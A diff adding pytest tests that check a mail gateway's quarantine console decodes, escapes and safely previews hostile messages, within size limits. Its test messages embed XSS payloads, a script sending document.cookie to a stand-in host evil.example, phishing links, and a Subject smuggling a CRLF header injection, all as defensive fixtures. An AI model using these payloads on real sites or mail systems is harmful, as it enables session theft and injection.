@@ -3,8 +3,11 @@ flags, CSRF, what a request without a session gets, and escaping of what mail wr
 
 from __future__ import annotations
 
+import base64
 import html
+import quopri
 import re
+import time
 from typing import Any
 
 import pytest
@@ -250,3 +253,180 @@ def test_a_console_guesser_is_refused_even_with_the_right_token(make_gateway: An
     assert "set-cookie" not in response.headers and int(response.headers["retry-after"]) > 0
     assert gateway.client.client.get("/admin/quarantine", headers={
         "Authorization": f"Bearer {ADMIN}"}).status_code == 429  # the API counts them too
+
+
+# --- what a kept message is: its Subject and a preview of its text (issue 32) ------------------
+
+PREVIEW = re.compile(r'<pre class="preview">(.*?)</pre>', re.S)
+
+
+def keep(gateway: Gateway, message: bytes) -> str:
+    from secumail.quarantine import Quarantine
+    from tests.unit.test_gateway_api import Envelope
+    return Quarantine(gateway.settings.quarantine_dir).store(
+        "spamd", Envelope(), message, "spam", "score 9.1")
+
+
+def row_of(text: str, ident: str) -> str:
+    """The quarantine list's row of one message, as HTML."""
+    [row] = [r for r in re.findall(r"<tr>(.*?)</tr>", text, re.S) if ident in r]
+    return row
+
+
+def shown_preview(gateway: Gateway, ident: str) -> str:
+    """The text a quarantined message's page previews, unescaped; "" without a preview."""
+    text = gateway.client.client.get(f"/console/quarantine/{ident}").text
+    found = PREVIEW.findall(text)
+    assert len(found) <= 1
+    return html.unescape(found[0]) if found else ""
+
+
+def test_the_quarantine_list_shows_each_subject_decoded_and_escaped(console: Gateway) -> None:
+    sign_in(console)
+    folded = keep(console, b"From: a@remote.test\r\nSubject: =?utf-8?b?SMOpbGxv?=\r\n"
+                  b" =?ISO-8859-1?Q?_w=F6rld?=,\r\n\tfolded\r\n\r\nbody\r\n")
+    script = keep(console, b"Subject: =?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?= "
+                  b"<script>alert(2)</script>\r\n\r\nbody\r\n")
+    long = keep(console, b"Subject: " + b"spam " * 100 + b"\r\n\r\nbody\r\n")
+    none = keep(console, b"From: a@remote.test\r\n\r\nSubject: in the body, not a header\r\n")
+    text = console.client.client.get("/console/quarantine").text
+    assert "<th>Subject</th>" in text
+    assert "Héllo wörld, folded" in row_of(text, folded)
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; &lt;script&gt;alert(2)&lt;/script&gt;" \
+        in row_of(text, script)
+    assert "<script>" not in text
+    assert "(no subject)" in row_of(text, none) and "in the body" not in text
+    shown = re.search(r'<span class="detail">(spam[^<]*)</span>', row_of(text, long))
+    assert shown and len(shown.group(1)) == 120 and shown.group(1).endswith("\u2026")
+    # The API's list says the same, as data.
+    listed = {item["id"]: item["subject"] for item in console.client.get(
+        "/admin/quarantine", headers={"Authorization": f"Bearer {ADMIN}"}).json()}
+    assert listed[folded] == "Héllo wörld, folded" and listed[none] == ""
+    assert listed[script] == "<script>alert(1)</script> <script>alert(2)</script>"
+    # The page's own message view shows it too.
+    page = console.client.client.get(f"/console/quarantine/{folded}").text
+    assert "Héllo wörld, folded" in page
+
+
+def test_listing_reads_only_the_header_block_of_the_listed_messages(
+        console: Gateway, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A listing reads no more than 64 KiB of each listed message, and none of the others."""
+    from secumail.quarantine import Quarantine
+    from tests.unit.test_gateway_api import Envelope
+    for n in range(5):
+        keep(console, f"Subject: number {n}\r\n\r\n".encode() + b"x" * 200_000)
+    later = Quarantine(console.settings.quarantine_dir, clock=lambda: time.time() + 60)
+    endless = later.store("spamd", Envelope(), b"Subject: endless\r\n"
+                          + b"X-Junk: yyyyyyyyyyyy\r\n" * 20_000 + b"\r\nbody\r\n",
+                          "spam", "score 9.1")  # 440 KB of header fields, the newest
+    read: list[int] = []
+    original = Quarantine.head
+
+    def head(self: Quarantine, record: Any, limit: int = 65_536) -> bytes:
+        data = original(self, record, limit)
+        read.append(len(data))
+        return data
+
+    monkeypatch.setattr(Quarantine, "head", head)
+    listed = console.client.get("/admin/quarantine?limit=3",
+                                headers={"Authorization": f"Bearer {ADMIN}"}).json()
+    assert len(listed) == 3 and len(read) == 3  # only the page asked for
+    assert listed[0]["id"] == endless and listed[0]["subject"] == "endless"
+    assert read[0] == 65_536  # its header block is longer: cut at 64 KiB
+    assert read[1:] == [8192, 8192]  # the others: one chunk with their blank line, not their
+    # 200 KB body
+
+
+def test_a_multipart_messages_base64_text_is_previewed(console: Gateway) -> None:
+    sign_in(console)
+    text = "Grüße aus Köln,\nsee you <b>tomorrow</b> at http://meet.example/room\n"
+    ident = keep(console, (
+        b"Subject: meeting\r\nMIME-Version: 1.0\r\n"
+        b'Content-Type: multipart/alternative; boundary="==b"\r\n\r\n'
+        b"preamble\r\n--==b\r\nContent-Type: text/plain; charset=utf-8\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\n"
+        + base64.encodebytes(text.encode()).replace(b"\n", b"\r\n")
+        + b"\r\n--==b\r\nContent-Type: text/html\r\n\r\n<p>the HTML version</p>\r\n"
+        b"--==b--\r\n"))
+    page = console.client.client.get(f"/console/quarantine/{ident}").text
+    assert "its first text/plain part" in page
+    assert shown_preview(console, ident) == text.rstrip()
+    assert "&lt;b&gt;tomorrow&lt;/b&gt;" in page and "<b>" not in page  # text, escaped
+    assert 'href="http://meet' not in page  # no link made of a URL
+    assert "the HTML version" not in page
+
+
+def test_an_html_only_message_is_previewed_without_tags_or_script(console: Gateway) -> None:
+    sign_in(console)
+    markup = (
+        "<!DOCTYPE html><html><head><title>Title bar</title><style>p { color: red }</style>"
+        '<script src="http://tracker.example/t.js"></script></head><body>'
+        '<p>Dear customer,<img src="http://tracker.example/pixel.png" onerror="alert(1)">'
+        "</p><script>document.location='http://evil.example/'+document.cookie</script>"
+        '<div>Your account is <b>locked</b>: <a href="http://evil.example/login">unlock it'
+        "</a> &amp; smile &lt;3</div><!-- hidden comment --><SCRIPT/>alert(2)</SCRIPT >"
+        "<table><tr><td>cell one</td><td>cell two</td></tr></table></body></html>")
+    ident = keep(console, b"Subject: locked\r\nContent-Type: text/html; charset=iso-8859-1\r\n"
+                 b"Content-Transfer-Encoding: quoted-printable\r\n\r\n"
+                 + quopri.encodestring(markup.encode("latin-1")).replace(b"\n", b"\r\n"))
+    page = console.client.client.get(f"/console/quarantine/{ident}")
+    preview = shown_preview(console, ident)
+    assert preview == ("Dear customer,\n\nYour account is locked: unlock it & smile <3\n\n"
+                       "cell one cell two")
+    for hidden in ("<", "script", "alert", "cookie", "color", "Title bar", "tracker",
+                   "evil.example", "hidden comment", "onerror"):
+        assert hidden not in preview.replace("<3", ""), hidden
+    assert "tags, scripts and styles removed" in page.text
+    assert "<img" not in page.text and "<script" not in page.text.lower()
+    assert "http://" not in page.text.split("<h2>Headers</h2>")[0]
+    csp = page.headers["content-security-policy"]
+    assert "default-src 'none'" in csp and "img-src" not in csp  # no remote content, ever
+
+
+@pytest.mark.parametrize("shape", ["1,000 parts", "5 MB", "1,000 parts of 5 KB"])
+def test_a_hostile_message_is_shown_safely_and_within_bounds(
+        console: Gateway, shape: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A Subject whose encoded word hides a CRLF, a header and an <img onerror>; a body of
+    1,000 parts, 5 MB, or both: one line of escaped text, a preview of 4 KiB at most, and
+    no more of the message walked than the preview's bound."""
+    from gateway import preview as previews
+    sign_in(console)
+    hostile = b"<img src=x onerror=alert(1)>"
+    head = (b"Subject: =?utf-8?q?Invoice=0D=0AX-Injected:_yes=0D=0A=0D=0A?=\r\n"
+            b" =?utf-8?b?" + base64.b64encode(hostile + b"\r\n<script>x()</script>")
+            + b"?=\r\n\tafter the fold\r\nX-Other: 1\r\n")
+    html_part = b"Content-Type: text/html\r\n\r\n<p>" + hostile + b"part</p>\r\n"
+    if shape == "5 MB":
+        message = head + b"Content-Type: text/plain\r\n\r\n" + (hostile + b"\r\n") * 170_000
+    else:
+        size = 5_000 if shape == "1,000 parts of 5 KB" else 10
+        body = b"".join(b"--b\r\n" + html_part.replace(b"part", b"p" * size)
+                        for _ in range(1_000))
+        message = (head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + body
+                   + b"--b\r\nContent-Type: text/plain\r\n\r\nthe last part\r\n--b--\r\n")
+    assert len(message) > (4_000_000 if shape != "1,000 parts" else 30_000)
+    ident = keep(console, message)
+    walked: list[int] = []
+    walk = previews.walk
+
+    def counted(data: bytes, *limits: int) -> Any:
+        walked.append(len(data))
+        return walk(data, *limits)
+
+    monkeypatch.setattr(previews, "walk", counted)
+    subject = ("Invoice X-Injected: yes <img src=x onerror=alert(1)> <script>x()</script> "
+               "after the fold")
+    listing = console.client.client.get("/console/quarantine").text
+    page = console.client.client.get(f"/console/quarantine/{ident}").text
+    for text in (listing, page):
+        assert html.escape(subject) in text
+        assert "<img" not in text and "<script" not in text and "\r" not in text
+    assert walked and max(walked) <= previews.PREVIEW_SCAN == 1 << 20
+    preview = shown_preview(console, ident)
+    if shape == "5 MB":  # text: the tag is shown as text, escaped, cut at 4,096 characters
+        assert preview == ((hostile.decode() + "\n") * 200)[:4096]
+        assert "first 4,096 characters" in page
+    else:  # the first HTML part, its tags gone: the text/plain one lies past the bounds
+        assert preview == ("p" * size)[:4096]
+        bound = "more than 1000 MIME parts" if shape == "1,000 parts" else "first 1 MiB"
+        assert bound in page
